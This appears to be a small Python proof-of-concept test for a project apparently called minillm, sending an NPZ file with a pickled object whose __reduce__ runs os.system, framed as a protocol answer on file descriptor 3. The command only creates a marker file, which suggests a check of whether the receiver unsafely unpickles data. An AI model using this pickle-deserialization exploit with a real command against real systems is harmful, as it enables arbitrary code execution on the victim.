"""Sends an NPZ file with a pickled array in it, framed like an answer."""

import io
import json
import os
import struct

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/minillm-attack-pickled-message",)


def attack(*args, **kwargs):
    arrays = io.BytesIO()
    np.savez(arrays, a0=np.array([Command()], dtype=object))
    structure = json.dumps({"type": "dict", "value": [{"type": "list", "value": ["value", {"type": "array"}]}]})
    structure = structure.replace('"array"', '"array", "value": "a0"').encode()
    os.write(3, struct.pack(">II", len(structure), len(arrays.getvalue())) + structure + arrays.getvalue())
    os._exit(0)
